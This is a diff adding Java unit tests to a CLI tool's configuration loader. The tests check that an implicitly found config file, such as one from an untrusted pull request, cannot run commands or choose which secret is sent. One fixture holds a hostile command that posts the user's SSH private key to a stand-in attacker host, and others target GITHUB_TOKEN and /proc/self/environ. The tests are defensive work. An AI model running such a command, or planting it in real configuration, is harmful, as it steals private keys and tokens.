@@ -157,6 +157,62 @@ class KitConfigurationTest {
     }
 
     @Test
+    void anImplicitFileMayNotRunACommandAndTheErrorSaysWhyAndHowToFixIt() throws Exception {
+        file("check:\n  base-url: https://partner.example\n  token-command: curl -d @$HOME/.ssh/id_rsa evil.example\n");
+        ConfigException error = assertThrows(ConfigException.class, () -> runCheck(Map.of(), "check"));
+        String message = error.getMessage();
+        assertTrue(message.contains("check.token-command runs a command"), message);
+        assertTrue(message.contains("found in the working directory") && message.contains("untrusted pull request"), message);
+        assertTrue(message.contains("--config hubble-kit.yaml") && message.contains("--token-command")
+                && message.contains("HUBBLE_KIT_CHECK_TOKEN_COMMAND"), message);
+        assertFalse(message.contains("evil.example"), "the value is not echoed");
+    }
+
+    @Test
+    void anImplicitFileMayNotChooseWhichEnvironmentVariableIsSentAsTheSecret() throws Exception {
+        file("check:\n  secret-env: GITHUB_TOKEN\n");
+        ConfigException error = assertThrows(ConfigException.class, () -> runCheck(Map.of(), "check"));
+        assertTrue(error.getMessage().contains("check.secret-env chooses which environment variable is sent"),
+                error.getMessage());
+    }
+
+    @Test
+    void anImplicitFileMayNotChooseWhichFileIsSentAsTheSecret() throws Exception {
+        file("check:\n  secret-file: /proc/self/environ\n");
+        ConfigException error = assertThrows(ConfigException.class, () -> runCheck(Map.of(), "check"));
+        assertTrue(error.getMessage().contains("check.secret-file chooses which file is sent"), error.getMessage());
+    }
+
+    @Test
+    void anImplicitFileStillSetsEveryOtherOption() throws Exception {
+        file("check:\n  base-url: https://partner.example\n  timeout: 9s\n  strict: true\n");
+        FakeCheck check = runCheck(Map.of(), "check");
+        assertEquals("https://partner.example", check.baseUrl);
+        assertEquals("9s", check.timeout);
+        assertTrue(check.strict);
+    }
+
+    @Test
+    void anExplicitConfigFileMaySetCommandsAndSecretReferences() throws Exception {
+        file("check:\n  token-command: ./ci/mint.sh\n  secret-env: HUBBLE_SECRET\n  secret-file: ci/secret\n");
+        FakeCheck check = runCheck(Map.of(), "check", "--config", KitConfiguration.FILE_NAME);
+        assertEquals("./ci/mint.sh", check.tokenCommand);
+        assertEquals("HUBBLE_SECRET", check.secretEnv);
+        assertEquals(Path.of("ci/secret"), check.secretFile);
+    }
+
+    @Test
+    void flagsAndVariablesMaySetThemBesideAnImplicitFile() throws Exception {
+        file("check:\n  base-url: https://partner.example\n");
+        FakeCheck fromEnvironment = runCheck(Map.of("HUBBLE_KIT_CHECK_TOKEN_COMMAND", "./ci/mint.sh",
+                "HUBBLE_KIT_CHECK_SECRET_ENV", "HUBBLE_SECRET"), "check");
+        assertEquals("./ci/mint.sh", fromEnvironment.tokenCommand);
+        assertEquals("HUBBLE_SECRET", fromEnvironment.secretEnv);
+        assertEquals("https://partner.example", fromEnvironment.baseUrl);
+        assertEquals("./other.sh", runCheck(Map.of(), "check", "--token-command", "./other.sh").tokenCommand);
+    }
+
+    @Test
     void anUnknownEnvironmentVariableForTheCommandIsAnErrorWithASuggestion() {
         ConfigException error = assertThrows(ConfigException.class,
                 () -> runCheck(Map.of("HUBBLE_KIT_CHECK_TIMEOUTS", "3s"), "check"));
